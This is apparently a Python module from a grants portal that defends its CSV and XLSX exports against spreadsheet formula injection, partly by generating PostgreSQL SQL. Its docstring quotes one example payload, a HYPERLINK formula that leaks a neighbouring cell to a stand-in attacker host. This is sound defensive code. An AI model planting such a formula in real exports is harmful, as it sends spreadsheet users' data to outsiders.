"""The one writer of spreadsheet cells: every CSV and XLSX the portal writes.

A text a spreadsheet program reads as a formula is an attack on whoever opens
the file: ``=HYPERLINK("http://evil.example/?leak="&B2,"Details")`` as a
project title sends the neighbouring cell away, ``+RT-1`` or ``-1+1`` compute,
``@SUM(...)`` calls a function; a leading tab or carriage return hides such
a start from a naive check. So:

- in CSV, a text that begins with ``= + - @``, a tab or a carriage return is
  written with a leading apostrophe (``'=HYPERLINK(...)``), which spreadsheet
  programs show as text (``csv_text``);
- in XLSX, every text is a text cell (``t="inlineStr"``, never a formula, which
  openpyxl would otherwise make of a leading ``=``), and one that looks like a
  formula is marked *quotePrefix* as well — Excel's own mark of "typed with an
  apostrophe" — so it stays text even when someone edits the cell
  (``xlsx_cell``).

Numbers are not text: amounts stay numbers in XLSX and plain decimals in CSV
(the database holds every amount at zero or above, so none starts with "-").
"""

from typing import Any

from openpyxl.cell import WriteOnlyCell
from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE
from openpyxl.utils.exceptions import IllegalCharacterError

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
_FORMULA_FIRST = frozenset("".join(FORMULA_START))


def csv_text(value: str) -> str:
    """A text for a CSV field, neutralised if a spreadsheet would compute it."""
    return f"'{value}" if value.startswith(FORMULA_START) else value


def csv_texts(row: list, indexes: list[int]) -> None:
    """Neutralise, in place, the values at ``indexes`` of a row — texts or None —
    as ``csv_text`` does: one look at the first character of each, about 1 µs
    per row of the grants export."""
    for index in indexes:
        value = row[index]
        if value and value[0] in _FORMULA_FIRST:
            row[index] = f"'{value}"


# The first characters of FORMULA_START (= + - @ TAB CR) as PostgreSQL's ascii()
# gives them: an integer of the first character, nothing to allocate.
_FORMULA_CODES = ", ".join(str(ord(character)) for character in FORMULA_START)


def csv_field_sql(column: str, *, delimiter: str, neutralise: bool = True) -> str:
    """SQL that writes the text ``column`` as one field of a CSV line as the csv
    module writes it (``QUOTE_MINIMAL``, quote ``"``, lines ending in CRLF)
    after ``csv_texts``: neutralised if a spreadsheet would compute it, in
    quotes with quotes doubled when it holds the delimiter, a quote, CR or LF;
    NULL stays NULL (``concat`` writes nothing, as the csv module does for
    None). For the exports whose lines PostgreSQL writes (funding.grant_csv,
    projects.opendata_csv); their tests compare them with the csv module's."""
    if delimiter not in (",", ";"):
        raise ValueError(f"unsupported delimiter {delimiter!r}")
    value = column
    if neutralise:
        value = f"CASE WHEN ascii({column}) IN ({_FORMULA_CODES}) THEN '''' || {column} "
        value += f"ELSE {column} END"
    # strpos, not a regular expression: about half the time (each text is
    # converted to wide characters for a regular expression).
    special = " OR ".join(
        f"strpos({column}, {character}) > 0"
        for character in (f"'{delimiter}'", "'\"'", "chr(13)", "chr(10)")
    )
    quoted = "'\"' || replace(" + value + ", '\"', '\"\"') || '\"'"
    return f"CASE WHEN {special} THEN {quoted} ELSE {value} END"


def xlsx_cell(sheet: Any, value: Any, *, number_format: str = "") -> Any:
    """A cell of a write-only sheet: texts as text, everything else as openpyxl types it.

    Control characters XML cannot hold (stored before the text fields refused
    them) are dropped instead of failing the whole file."""
    try:
        cell = WriteOnlyCell(sheet, value=value)
    except IllegalCharacterError:
        value = ILLEGAL_CHARACTERS_RE.sub("", value)
        cell = WriteOnlyCell(sheet, value=value)
    if isinstance(value, str):
        cell.data_type = "s"
        if value.startswith(FORMULA_START):
            cell.quotePrefix = True
    if number_format:
        cell.number_format = number_format
    return cell
